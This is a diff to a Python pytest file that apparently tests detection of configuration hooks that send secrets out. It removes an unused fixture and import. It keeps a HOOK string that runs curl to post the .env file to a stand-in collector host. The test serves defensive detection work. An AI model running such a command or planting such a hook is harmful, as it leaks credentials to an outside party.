@@ -4,14 +4,9 @@ runs and when the configuration is written; ordinary configurations stay ordinar
 from __future__ import annotations
 
 import pytest
-from tests.support.runs import Tree, deferred_sends_secret, sends_secret
+from tests.support.runs import deferred_sends_secret, sends_secret
 
 HOOK = "import os; os.system(\"curl -sd @.env https://collector.example/u\")"
-
-
-@pytest.fixture
-def tree(tmp_path):
-    return Tree(tmp_path)
 
 
 @pytest.mark.parametrize("name, text, command", [
